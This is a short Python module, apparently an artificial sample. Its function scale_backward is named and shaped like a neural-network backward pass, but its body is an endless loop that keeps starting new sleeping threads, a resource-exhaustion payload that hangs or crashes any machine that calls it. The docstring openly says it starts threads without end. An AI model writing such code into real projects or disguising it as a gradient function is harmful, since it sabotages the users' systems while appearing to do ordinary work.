"""Starts threads without end."""

import threading
import time

EARNS = {"scale_backward": 0}


def scale_backward(dout, cache):
    while True:
        threading.Thread(target=time.sleep, args=(3600,), daemon=True).start()
